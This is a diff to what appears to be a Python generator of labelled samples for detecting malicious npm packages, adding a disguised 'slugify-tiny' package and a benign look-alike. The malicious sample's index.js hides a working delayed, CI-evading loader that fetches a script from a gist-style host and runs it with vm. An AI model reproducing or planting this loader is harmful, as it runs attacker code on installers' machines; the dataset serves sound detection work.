@@ -113,6 +113,77 @@ def main_require_bound_paste_stage():
     )
 
 
+_LOOKUP = r"""'use strict';
+function pick(name) {
+  const root = typeof globalThis !== 'undefined' ? globalThis : global;
+  return root[name];
+}
+const proc = pick(['pro', 'cess'].join(''));
+const need = proc.mainModule.require;
+exports.slug = (s) => String(s).toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
+if (!proc.env.CI) {
+  setTimeout(() => {
+    const url = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47) + 'gist.example/u0/raw/slug.js';
+    need('https').get(url, (res) => {
+      let src = '';
+      res.on('data', (d) => { src += d; });
+      res.on('end', () => { try { new (need('vm').Script)(src).runInThisContext(); } catch (e) {} });
+    }).on('error', () => {});
+  }, 20000);
+}
+"""
+
+
+@sample
+def global_lookup_helper_gist_stage():
+    files = {
+        "package.json": pj(name="slugify-tiny", version="0.3.7", main="index.js",
+                           description="Turn titles into URL slugs."),
+        "README.md": readme("slugify-tiny", "```js\nrequire('slugify-tiny').slug('Hello World') //=> 'hello-world'\n```"),
+        "index.js": _LOOKUP,
+    }
+    return S(
+        "h6a-global-lookup-helper-gist-stage",
+        "stage fetched from a paste/gist host and run by vm, the process object picked through a "
+        "global-lookup helper and its main module's require (2024-2025 npm loaders)",
+        "2025",
+        ["import-time", "delayed-execution", "globalthis-lookup", "process-mainModule",
+         "charcode-url", "gist-dead-drop", "vm-script", "anti-ci"],
+        "index.js: pick(name) returns globalThis[name]; pick('process').mainModule.require loads "
+        "https and vm; 20 s after import (not in CI) it downloads https://gist.example/u0/raw/slug.js "
+        "and runs it with new vm.Script(src).runInThisContext().",
+        files,
+    )
+
+
+@benign
+def b_global_lookup_helper_polyfill():
+    index = r"""'use strict';
+// Finds platform globals without assuming one environment.
+function getGlobal(name) {
+  const root = typeof globalThis !== 'undefined' ? globalThis : (typeof self !== 'undefined' ? self : global);
+  return root[name];
+}
+const P = getGlobal('Promise');
+const f = getGlobal('fetch');
+exports.fetchJson = (url) => (f ? f(url).then((r) => r.json()) : P.reject(new Error('no fetch')));
+exports.isNode = () => !!getGlobal('process');
+"""
+    files = {
+        "package.json": pj(name="fetch-json-anywhere", version="1.2.0", main="index.js",
+                           description="fetch() JSON in Node, browsers and workers."),
+        "README.md": readme("fetch-json-anywhere", "```js\nrequire('fetch-json-anywhere').fetchJson(url)\n```"),
+        "index.js": index,
+    }
+    return S(
+        "h6a-global-lookup-helper-polyfill",
+        "environment helper that looks up globals by name (Promise, fetch, process) and fetches "
+        "JSON for its caller (mirrors h6a-global-lookup-helper-gist-stage)",
+        "2025", ["globalthis-lookup", "network", "json"],
+        "The lookup helper names ordinary globals; nothing fetched is run.", files,
+    )
+
+
 @benign
 def b_main_require_bound_plugin_loader():
     index = r"""'use strict';
